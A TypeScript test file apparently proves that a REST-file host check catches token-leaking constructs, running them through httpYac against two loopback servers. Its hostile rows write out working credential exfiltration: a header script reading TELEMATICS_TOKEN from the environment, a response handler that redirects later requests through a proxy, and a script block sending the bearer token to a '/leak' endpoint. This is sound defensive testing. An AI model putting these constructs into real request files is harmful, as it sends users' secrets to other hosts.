// Each allowance of the host check's allow-list that the real corpus asked for (core/restFile/requestShape.ts),
// and each construct kept outside it for a reason the clients' code shows, proved against httpYac's engine: the
// file is sent in-process to a service on 127.0.0.1 and another site on 127.0.0.2 (same port). The hostile row
// holds the construct where it moves the request or the token: the check asks, and httpYac does reach the other
// site. The twin holds it where the allow-list lets it through: the check names only the service, and httpYac
// reaches the service only.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as httpyac from 'httpyac';
import { isSameSite, requestDestinations } from '../../src/core/restFile/requestHost';
import { parseRestFile } from '../../src/core/restFile/requestParser';
import { countingServer, type CountingServer } from '../support/countingServer';

const TOKEN = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1In0.c2ln';
const READ = 'Authorization: Bearer {{$processEnv TELEMATICS_TOKEN}}';

describe('the allow-list\'s allowances and refusals, proved against httpYac (issue 41)', function () {
	this.timeout(60_000);
	let service: CountingServer;
	let other: CountingServer;
	let dir: string;
	let logLevel: httpyac.LogLevel | undefined;
	const savedToken = process.env.TELEMATICS_TOKEN;

	before(async () => {
		httpyac.cli.initFileProvider();
		await httpyac.cli.initIOProvider();
		logLevel = httpyac.io.log.options.level;
		httpyac.io.log.options.level = httpyac.LogLevel.none;
		service = await countingServer('127.0.0.1');
		other = await countingServer('127.0.0.2', service.port);
		dir = fs.mkdtempSync(path.join(os.tmpdir(), 'allowances-'));
		process.env.TELEMATICS_TOKEN = TOKEN;
	});
	after(async () => {
		if (savedToken === undefined) delete process.env.TELEMATICS_TOKEN;
		else process.env.TELEMATICS_TOKEN = savedToken;
		httpyac.io.log.options.level = logLevel;
		await Promise.all([service.close(), other.close()]);
		fs.rmSync(dir, { recursive: true, force: true });
	});

	/** Sends every request of `text` with httpYac (a fresh session: nothing a script set stays for the next file). */
	async function send(text: string): Promise<{ service: CountingServer['received']; other: CountingServer['received'] }> {
		const before = { service: service.received.length, other: other.received.length };
		const httpFile = await new httpyac.store.HttpFileStore().getOrCreate(path.join(dir, 'file.http'), async () => text, 0, { workingDir: dir });
		try {
			await httpyac.send({ httpFile, logResponse: async () => undefined, config: { request: { timeout: 2_000 } } } as never);
		} finally {
			await httpyac.store.userSessionStore.reset();
		}
		return { service: service.received.slice(before.service), other: other.received.slice(before.other) };
	}

	/** The check: the hosts it names for every request (undefined: it does not say, and asks). */
	async function check(text: string): Promise<{ asks: boolean }> {
		const file = parseRestFile(text);
		const hosts = requestDestinations(file, file.requests).map((d) => d.host);
		let asks = hosts.length === 0;
		for (const host of hosts) asks = asks || host === undefined || !(await isSameSite(host, `http://127.0.0.1:${service.port}`));
		return { asks };
	}

	const at = (address: string, p: string) => `http://${address}:${service.port}${p}`;

	it('a GraphQL fragment spread in the body is text: inside the allow-list, and httpYac sends it as is, to the service', async () => {
		const twin = [`POST ${at('127.0.0.1', '/graphql')}`, 'Content-Type: application/json', READ, '', 'query { trips {', '  ...TripParts', '} }', ''].join('\n');
		assert.deepEqual(await check(twin), { asks: false });
		const reached = await send(twin);
		assert.equal(reached.other.length, 0);
		assert.equal(reached.service.length, 1);
		assert.ok(reached.service[0]!.body.includes('...TripParts'), `the spread went as body text (httpYac wraps a GraphQL query in JSON): ${reached.service[0]!.body}`);
	});

	it('a spread among the headers stays outside: httpYac builds headers from a script there, and takes the token to another site', async () => {
		const hostile = ['{{', "  exports.auth = { Authorization: 'Bearer ' + process.env['TELEMATICS' + '_TOKEN'] };", '}}', '', '###', `POST ${at('127.0.0.2', '/graphql')}`, '...auth', '', 'query { trips { id } }', ''].join('\n');
		assert.deepEqual(await check(hostile), { asks: true });
		const reached = await send(hostile);
		assert.deepEqual(reached.other.map((r) => r.authorization), [`Bearer ${TOKEN}`]);
	});

	it('a response handler (> {% %}) stays outside, for the whole file: in httpYac it sets a variable every later request reads, a proxy too', async () => {
		const handler = ['> {%', `  client.global.set('request_proxy', '${at('127.0.0.2', '')}');`, '%}'];
		const second = ['###', `GET ${at('127.0.0.1', '/v1/trips')}`, READ, ''];
		const hostile = [`GET ${at('127.0.0.1', '/v1/ping')}`, '', ...handler, '', ...second].join('\n');
		assert.deepEqual(await check(hostile), { asks: true });
		const reached = await send(hostile);
		assert.deepEqual(reached.other.map((r) => r.authorization), [`Bearer ${TOKEN}`], 'the second request, to the service by its URL, went through the other site');
		// Its twin: an assertion (`?? status == 204`) runs after the response too, and sets nothing.
		const twin = [`GET ${at('127.0.0.1', '/v1/ping')}`, '', '?? status == 204', '', ...second].join('\n');
		assert.deepEqual(await check(twin), { asks: false });
		const twinReached = await send(twin);
		assert.equal(twinReached.other.length, 0);
		assert.equal(twinReached.service.length, 2);
	});

	it('a script block in a request\'s own region stays outside too: it runs with Node\'s network and the exposed token, and sends it itself', async () => {
		const leak = `require('http').get('${at('127.0.0.2', '/leak')}', { headers: { authorization: 'Bearer ' + process.env.TELEMATICS_TOKEN } }, (res) => { res.resume(); res.on('end', done); })`;
		const hostile = ['###', '{{', `  await new Promise((done) => ${leak});`, '}}', `GET ${at('127.0.0.1', '/v1/trips')}`, READ, ''].join('\n');
		assert.deepEqual(await check(hostile), { asks: true });
		const reached = await send(hostile);
		assert.deepEqual(reached.other.map((r) => r.authorization), [`Bearer ${TOKEN}`]);
		assert.equal(reached.service.length, 1, 'the request itself went to the service, as its URL says');
	});
});
